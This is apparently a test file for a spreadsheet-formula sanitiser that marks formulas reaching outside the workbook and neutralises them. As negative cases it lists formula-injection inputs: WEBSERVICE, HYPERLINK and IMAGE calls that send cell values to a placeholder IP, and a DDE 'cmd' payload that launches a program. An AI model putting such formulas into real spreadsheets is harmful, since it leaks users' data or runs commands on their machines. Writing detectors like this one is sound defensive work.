import {
  inwardContent,
  isInward,
  isOutwardFormula,
} from "../../../src/workbook/excel/inward-formula";

test.each([
  "=1+1",
  "=SUM(A1:A3)/BPS.NTP(B1:D1,B2:D2)",
  "=_xlfn.XLOOKUP(A1,Table1[Berat (kg)],'Data (1)'!B:B)",
  '=IF(A1="WEBSERVICE(","a|b","[Book]Sheet!A1")',
  "=VLOOKUP($A$1,Harga!$A:$C,2,FALSE)",
  "=LET(x,1,ROUND(x*100,2))",
  "=_xlfn._xlws.SORT(A1:A9)+LOG10(5)",
  "=SUM (A1:A3)",
])("%s computes within the workbook", (formula) => expect(isInward(formula)).toBe(true));

test.each([
  '=WEBSERVICE("http://192.0.2.1/?q="&A1)',
  '=_xlfn.WEBSERVICE("x")',
  '=_xlfn._xlws.webservice ("x")',
  '=HYPERLINK("http://192.0.2.1/?d="&F6,"NTP")',
  '=IMAGE("http://192.0.2.1/"&A1)',
  "=cmd|'/c calc'!A0",
  "=[Book1.xlsx]Sheet1!A1",
  "='C:\\Data\\[Book1.xlsx]Sheet1'!A1",
  "='https://example.org/[Book1.xlsx]Sheet1'!A1",
  "=Book1.xlsx!Harga",
  "=SUM(1,CALL(A1))",
  '=INDIRECT("A"&1)',
  '=RTD("prog",,"x")',
  "=Mystery(A1)",
  "=S_xlfn.UM(A1)",
  "=SUM1(A1)",
  "=()+SUM.(A1)",
])("%s reaches outside, or may", (formula) => expect(isInward(formula)).toBe(false));

describe("isOutwardFormula", () => {
  test.each(["=Mystery(A1)", "+Mystery(A1)", "-Mystery(A1)", "@Mystery(A1)", "  =Mystery(A1)"])(
    "%j is one",
    (content) => expect(isOutwardFormula(content)).toBe(true),
  );

  test.each(["=SUM(A1)", "Mystery(A1)", "a=Mystery(A1)", "", 5, -5, true])(
    "%j is none",
    (content) => expect(isOutwardFormula(content)).toBe(false),
  );

  test("comes as a text, and everything else as it is", () => {
    expect(["=Mystery(A1)", "=SUM(A1)", "x", 5, false].map(inwardContent)).toEqual([
      ...["'=Mystery(A1)", "=SUM(A1)", "x", 5, false],
    ]);
  });
});
